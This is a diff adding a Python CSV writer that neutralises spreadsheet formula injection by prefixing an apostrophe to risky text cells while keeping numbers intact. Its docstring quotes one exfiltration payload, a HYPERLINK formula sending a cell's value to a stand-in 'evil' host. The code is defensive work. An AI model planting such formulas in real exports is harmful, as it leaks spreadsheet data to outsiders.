@@ -1,0 +1,52 @@
+"""CSV cells a spreadsheet will not run: the one writer every CSV download and export uses.
+
+Why: a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return,
+which some spreadsheets skip before looking) is read by Excel and LibreOffice as a
+formula; an imported visit reference ``=HYPERLINK("http://evil/?"&A1,"open")`` went
+straight into finance's invoice CSV (issue 14 item 7).
+
+The rule (OWASP's): a *text* cell whose first character, after any spaces, is one of those
+gets a leading apostrophe, which spreadsheets show as text and hide. A cell that is a
+plain number — ``-12.50``, ``+3``, ``42`` — is left alone, so negative amounts (credit
+lines, corrections) stay numbers finance can add up: a number cannot be a formula. Values
+that are not strings (int, Decimal, float) are numbers and written as they are.
+"""
+
+from __future__ import annotations
+
+import csv
+import re
+from collections.abc import Iterable
+from typing import Any, TextIO
+
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
+_NUMBER = re.compile(r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$")
+
+
+def safe_cell(value: Any) -> Any:
+    """``value`` as it may go into a CSV cell: text that a spreadsheet would run is made inert."""
+    if value is None or not isinstance(value, str):
+        return value
+    head = value.lstrip(" ")
+    if head.startswith(TRIGGERS) and not _NUMBER.match(head):
+        return "'" + value
+    return value
+
+
+class SafeWriter:
+    """``csv.writer`` with every cell through :func:`safe_cell` (same ``writerow``/``writerows``)."""
+
+    def __init__(self, out: TextIO, **fmtparams: Any) -> None:
+        fmtparams.setdefault("lineterminator", "\n")
+        self._writer = csv.writer(out, **fmtparams)
+
+    def writerow(self, row: Iterable[Any]) -> Any:
+        return self._writer.writerow([safe_cell(v) for v in row])
+
+    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
+        for row in rows:
+            self.writerow(row)
+
+
+def writer(out: TextIO, **fmtparams: Any) -> SafeWriter:
+    return SafeWriter(out, **fmtparams)
